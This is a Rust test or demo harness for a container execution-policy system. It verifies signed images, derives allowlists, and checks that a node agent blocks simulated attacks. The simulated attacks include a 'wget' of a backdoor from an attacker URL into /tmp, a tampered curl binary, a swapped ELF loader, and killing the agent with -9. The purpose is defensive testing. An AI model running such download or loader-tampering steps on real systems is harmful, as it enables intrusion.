//! The eight steps, in the order of play.

use std::{
    fs,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, anyhow, bail};
use serde_json::Value;

use super::{
    central::{CHAIN_LIMIT, ServiceFile, condition},
    interrupt,
    progress::{self, Task, heading, say},
    registry::Registry,
    sign::Signer,
    world::{REPLICA, SERVICE, World, pause},
};
use crate::{oci::Image, workspace};

/// The repositories of the image and its twins.
pub(super) const REPOSITORY: &str = "payment-service";
const UNSIGNED: &str = "payment-service-unsigned";
const OTHER_KEY: &str = "payment-service-other-key";
const TAG: &str = "1.0";

/// Marks of the canaries.
pub(super) const BACKDOOR_MARK: &str = "backdoor";
pub(super) const LOADER_MARK: &str = "loader";

const LOADER: &str = "/lib64/ld-linux-x86-64.so.2";
/// In the padding of an ELF file's identification, which nobody reads.
const CHANGED_BYTE: usize = 15;
/// How long an event would take that cannot come.
const AGENT_AWAY: Duration = Duration::from_secs(2);

/// What the steps share.
pub(super) struct Play {
    pub(super) digest: String,
    /// Where the server of each replica listens.
    pub(super) listen: [String; 2],
    pub(super) loader_canary: Vec<u8>,
}

/// Pushes the image and its twins, and signs as each deserves. The first part of step 1, before there is anybody to look.
///
/// # Errors
///
/// Where the registry or the signer fails.
pub(super) fn publish(registry: &Registry, image: &Image, signer: &Signer, other: &Signer) -> Result<()> {
    let digest = image.digest();
    for repository in [REPOSITORY, UNSIGNED, OTHER_KEY] {
        let task = Task::begin(&format!("push {}/{repository}:{TAG}", registry.name()));
        registry.push(repository, TAG, image)?;
        task.done(&digest);
    }
    let task = Task::begin("sign");
    signer.sign(registry, REPOSITORY, &digest)?;
    other.sign(registry, OTHER_KEY, &digest)?;
    task.done(&format!("by {}", signer.description()));
    Ok(())
}

impl Play {
    fn image(&self) -> String {
        format!("{REPOSITORY}@{}", self.digest)
    }

    fn probe_line(&self) -> String {
        format!("curl -fs http://{}/healthz", self.listen[0])
    }

    fn exec_probe(&self) -> String {
        format!(r#"{{exec: {{command: ["/bin/sh", "-c", "{}"]}}}}"#, self.probe_line())
    }

    fn http_probe(&self) -> String {
        let port = self.listen[0].rsplit(':').next().unwrap_or_default();
        format!("{{httpGet: {{path: /healthz, port: {port}}}}}")
    }

    fn apply(&self, world: &World, image: &str, probe: &str) -> Result<()> {
        world.central.apply(&ServiceFile {
            name: REPOSITORY,
            image,
            listen: &self.listen[0],
            probe,
        })
    }

    /// All steps.
    ///
    /// # Errors
    ///
    /// Where a step could not be played; what was seen until then is in the report.
    pub(super) fn play(&self, world: &mut World) -> Result<()> {
        self.published(world)?;
        self.derived(world)?;
        self.found(world)?;
        self.monitored(world)?;
        self.enforced(world)?;
        self.probe_changed(world)?;
        self.twins_refused(world)?;
        self.agent_killed(world)
    }

    fn published(&self, world: &mut World) -> Result<()> {
        let has = |tag: &str| -> Result<String> {
            let there = world.registry.has(REPOSITORY, tag)?;
            Ok(if there { "in the registry" } else { "absent" }.to_owned())
        };
        let facts = vec![
            ("image", has(&self.digest)?),
            ("signature", has(&format!("{}.sig", self.digest.replace(':', "-")))?),
        ];
        world.note_facts("image-signed", facts);
        Ok(())
    }

    fn derived(&self, world: &mut World) -> Result<()> {
        heading(2, "Central verifies the image, asks Cedar, and derives what may start");
        self.apply(world, &format!("{REPOSITORY}:{TAG}"), &self.exec_probe())?;
        let mut facts = stopped(world, REPOSITORY)?;
        let message = facts.pop().map(|(_, message)| message).unwrap_or_default();
        let names_it = message.contains("AllowTagReference");
        facts.push(("message names AllowTagReference", yes_or_no(names_it)));
        world.note_facts("tag-refused", facts);

        say("the service is corrected: it names the image by its digest");
        self.apply(world, &self.image(), &self.exec_probe())?;
        let service = world
            .central
            .wait_for_service(REPOSITORY, |reason| reason == "InForce")?;
        world.central.show(&["policy", "list"])?;
        let policy = world
            .central
            .policy(REPOSITORY)?
            .ok_or_else(|| anyhow!("the policy is not listed"))?;
        for entry in policy["spec"]["entries"].as_array().into_iter().flatten() {
            let because = entry["because"][0].as_str().unwrap_or_default();
            let path = entry["path"].as_str().unwrap_or_default();
            progress::quote(&format!(
                "{path}  from {}: {because}",
                entry["from"].as_str().unwrap_or("any")
            ));
        }
        let message = condition(&service, "ImageVerified")["message"]
            .as_str()
            .unwrap_or_default();
        let signed_by = message.rsplit(" signed by ").next().unwrap_or_default();
        world.note_facts(
            "policy-derived",
            vec![
                ("signed by", signed_by.to_owned()),
                ("reason", text(&condition(&service, "Ready")["reason"])),
                ("entries", entries(&policy)),
            ],
        );
        Ok(())
    }

    fn found(&self, world: &mut World) -> Result<()> {
        heading(3, "The agent has the policy, and finds the containers when they start");
        let node = world.central.node()?;
        say(&format!(
            "tier {}, kernel {}",
            world.report.stage.tier, world.report.stage.kernel
        ));
        let judged_before = verdicts(&world.agent_status()?);
        let reference = format!("{}/{}", world.registry.name(), self.image());
        let task = Task::begin("pull and start the containers");
        for (id, listen) in [SERVICE, REPLICA].into_iter().zip(&self.listen) {
            if !deploy(world, REPOSITORY, id, &reference, listen)? {
                bail!("service {REPOSITORY} is not ready, so its containers are not started");
            }
            world.wait_for_server(listen)?;
        }
        task.done("the servers answer");
        let container = world.wait_for_container(SERVICE, |container| !container["policy"].is_null())?;
        world.wait_for_container(REPLICA, |container| !container["policy"].is_null())?;
        world.show_agent_status()?;
        let judged = verdicts(&world.agent_status()?) > judged_before;
        let policy = &container["policy"];
        let facts = vec![
            ("agent", if node.is_some() { "connected" } else { "absent" }.to_owned()),
            (
                "policy of the container",
                format!("{}/{}", text(&policy["namespace"]), text(&policy["name"])),
            ),
            ("mode", text(&container["mode"])),
            ("first exec judged", yes_or_no(judged)),
            ("healthz", world.healthz(&self.listen[0])),
        ];
        world.note_facts("container-found", facts);
        Ok(())
    }

    fn monitored(&self, world: &mut World) -> Result<()> {
        heading(4, "Monitor: the attack runs, and is seen");
        let attack = world.attacker.line();
        world.attempt("monitor-attack", Some(BACKDOOR_MARK), |world| {
            world.exec_counting_downloads(SERVICE, &["/bin/sh", "-c", &attack])
        })?;

        say("a copy of curl with one byte changed, uploaded through the server:");
        world.upload(&self.listen[0], "/tmp/curl", &changed_curl()?)?;
        world.attempt("monitor-changed-copy", None, |world| {
            world.exec(SERVICE, &["/tmp/curl", "--version"])
        })?;

        say("the second replica gets another ELF interpreter, through the server again:");
        world.upload(&self.listen[1], LOADER, &self.loader_canary)?;
        world.attempt("monitor-loader", Some(LOADER_MARK), |world| {
            world.exec(REPLICA, &["/bin/sh", "-c", "exit 3"])
        })?;

        say("the shell that the probe needs, started by the application:");
        world.attempt("monitor-application-shell", None, |world| {
            world.convert(&self.listen[0], &self.probe_line())
        })
    }

    fn enforced(&self, world: &mut World) -> Result<()> {
        heading(5, "Enforce: set live, nothing restarts");
        let pid = world.agent.pid();
        world
            .central
            .show(&["mode", "set", "--namespace", "payments", "enforce"])?;
        let container = world.wait_for_container(SERVICE, |container| container["mode"] == "enforce")?;
        world.wait_for_container(REPLICA, |container| container["mode"] == "enforce")?;
        let same = pid.is_some() && pid == world.agent.pid();
        world.note_facts(
            "enforce-set",
            vec![
                ("mode", text(&container["mode"])),
                (
                    "agent",
                    if same { "the same process" } else { "another process" }.to_owned(),
                ),
            ],
        );
        let attack = world.attacker.line();
        world.attempt("enforce-attack", Some(BACKDOOR_MARK), |world| {
            world.exec_counting_downloads(SERVICE, &["/bin/sh", "-c", &attack])
        })?;
        world.attempt("enforce-changed-copy", None, |world| {
            world.exec(SERVICE, &["/tmp/curl", "--version"])
        })?;
        world.attempt("enforce-loader", Some(LOADER_MARK), |world| {
            world.exec(REPLICA, &["/bin/sh", "-c", "exit 3"])
        })?;
        world.attempt("enforce-loader-as-command", None, |world| {
            world.exec(SERVICE, &[LOADER, "/usr/bin/wget", "--version"])
        })?;
        say("the probe's own command, as a kubelet runs it:");
        world.attempt("enforce-probe", None, |world| {
            world.exec(SERVICE, &["/bin/sh", "-c", &self.probe_line()])
        })?;
        say("the same, started by the application:");
        world.attempt("enforce-application-shell", None, |world| {
            world.convert(&self.listen[0], &self.probe_line())
        })?;
        let healthz = world.healthz(&self.listen[0]);
        world.note_facts("enforce-server", vec![("healthz", healthz)]);
        Ok(())
    }

    fn probe_changed(&self, world: &mut World) -> Result<()> {
        heading(
            6,
            "The exec probe becomes an HTTP probe: sh and curl are not needed any more",
        );
        let generation = |policy: Option<&Value>| policy.and_then(|policy| policy["spec"]["generation"].as_u64());
        let before = generation(world.central.policy(REPOSITORY)?.as_ref());
        let started = Instant::now();
        self.apply(world, &self.image(), &self.http_probe())?;
        let policy = interrupt::wait_for(CHAIN_LIMIT, || {
            let policy = world.central.policy(REPOSITORY)?;
            Ok(policy.filter(|policy| generation(Some(policy)) > before))
        })?;
        let policy = policy.ok_or_else(|| anyhow!("central derived no new policy"))?;
        let wanted = policy["spec"]["generation"].clone();
        world.wait_for_container(SERVICE, |container| container["policy"]["generation"] == wanted)?;
        say(&format!(
            "in force at the agent {} ms after the file was written",
            started.elapsed().as_millis()
        ));
        world.note_facts("http-probe-derived", vec![("entries", entries(&policy))]);
        world.attempt("http-probe-shell", None, |world| {
            world.exec(SERVICE, &["/bin/sh", "-c", &self.probe_line()])
        })?;
        let url = format!("http://{}/healthz", self.listen[0]);
        world.attempt("http-probe-curl", None, |world| {
            world.exec(SERVICE, &["/usr/bin/curl", "-fs", &url])
        })?;
        let healthz = world.healthz(&self.listen[0]);
        world.note_facts("http-probe-server", vec![("healthz", healthz)]);
        Ok(())
    }

    fn twins_refused(&self, world: &mut World) -> Result<()> {
        heading(7, "Twins of the image: one unsigned, one signed by another key");
        for (name, repository, advice) in [
            (
                "unsigned-refused",
                UNSIGNED,
                "sign it with the key that the TrustPolicy names: `cosign sign",
            ),
            (
                "other-key-refused",
                OTHER_KEY,
                "with a trusted key, or name the signer's public key",
            ),
        ] {
            world.central.apply(&ServiceFile {
                name: repository,
                image: &format!("{repository}@{}", self.digest),
                listen: &self.listen[0],
                probe: &self.http_probe(),
            })?;
            let mut facts = stopped(world, repository)?;
            let reference = format!("{}/{repository}@{}", world.registry.name(), self.digest);
            if !deploy(world, repository, repository, &reference, &self.listen[0])? {
                say("it is not ready, so its container is not started");
            }
            facts.push(("containers", world.containerd.containers_of(repository)?.to_string()));
            let message_at = facts.iter().position(|(name, _)| *name == "message");
            let message = message_at.map(|at| facts.remove(at).1).unwrap_or_default();
            // Of its words only the advice is held against what is expected.
            facts.push(("message says what to do", yes_or_no(message.contains(advice))));
            world.note_facts(name, facts);
        }
        Ok(())
    }

    fn agent_killed(&self, world: &mut World) -> Result<()> {
        heading(8, "The agent is killed with -9");
        let url = world.attacker.url();
        let attack = ["/usr/bin/wget", "-q", &url, "-O", "/tmp/backdoor"];
        say(&format!("$ kill -9 {}", world.agent.pid().unwrap_or_default()));
        world.agent.kill()?;
        let since = world.events.now()?;
        let mut tried = world.exec_counting_downloads(SERVICE, &attack)?;
        pause(AGENT_AWAY)?;
        let came = world.events.find_now(since, |_| true)?.is_some();
        tried.facts.push(("event before the agent is back", yes_or_no(came)));
        say("$ lattice-agent run …");
        let World {
            agent, place, central, ..
        } = world;
        agent.start_again(place, central)?;
        world.note("agent-killed", since, None, tried.status, tried.facts)?;

        let container = world.wait_for_container(SERVICE, |container| container["mode"] == "enforce")?;
        let (mode, listen) = (text(&container["mode"]), self.listen[0].clone());
        world.attempt("agent-back", None, |world| {
            let mut tried = world.exec_counting_downloads(SERVICE, &attack)?;
            tried.facts.push(("mode", mode));
            tried.facts.push(("healthz", world.healthz(&listen)));
            Ok(tried)
        })
    }
}

/// Waits until a service's chain has stopped, shows where, and returns the facts; the last is the message.
/// Starts a container as who deploys does: where central says that the service is ready. Returns whether it was.
fn deploy(world: &World, service: &str, id: &str, reference: &str, listen: &str) -> Result<bool> {
    let service = world.central.wait_for_service(service, |reason| reason != "Pending")?;
    if condition(&service, "Ready")["status"] != "True" {
        return Ok(false);
    }
    world.containerd.pull(reference)?;
    world.containerd.run(id, reference, listen)?;
    Ok(true)
}

fn stopped(world: &World, name: &str) -> Result<Vec<(&'static str, String)>> {
    let service = world.central.wait_for_service(name, |reason| reason != "Pending")?;
    let Some(stopped_at) = service["stoppedAt"].as_str() else {
        bail!("service {name} should not be ready, and is: {service}");
    };
    let ready = condition(&service, "Ready");
    let message = text(&ready["message"]);
    say(&format!(
        "service {name} stopped at {stopped_at} ({}):",
        text(&ready["reason"])
    ));
    progress::quote(&message);
    let policy = world.central.policy(name)?;
    Ok(vec![
        ("stopped at", stopped_at.to_owned()),
        ("reason", text(&ready["reason"])),
        ("policy", if policy.is_some() { "one" } else { "none" }.to_owned()),
        ("message", message),
    ])
}

fn entries(policy: &Value) -> String {
    let entries = policy["spec"]["entries"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default();
    let mut paths: Vec<_> = entries.iter().map(|entry| text(&entry["path"])).collect();
    paths.sort();
    paths.join(" ")
}

/// How many execs were allowed as listed ones, by the kernel's counters.
fn verdicts(status: &Value) -> u64 {
    let counters = status["counters"].as_object();
    counters
        .into_iter()
        .flatten()
        .filter(|(name, _)| name.contains("listed-digest") || name.contains("listed-path"))
        .filter_map(|(_, count)| count.as_u64())
        .sum()
}

fn changed_curl() -> Result<Vec<u8>> {
    let program = workspace::find_program("curl").ok_or_else(|| anyhow!("no curl: run `cargo xtask setup`"))?;
    let mut content = fs::read(&program).with_context(|| format!("cannot read {}", program.display()))?;
    match content.get_mut(CHANGED_BYTE) {
        Some(byte) => *byte ^= 1,
        None => bail!("{} is no program", program.display()),
    }
    Ok(content)
}

fn text(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

fn yes_or_no(is_so: bool) -> String {
    if is_so { "yes" } else { "no" }.to_owned()
}
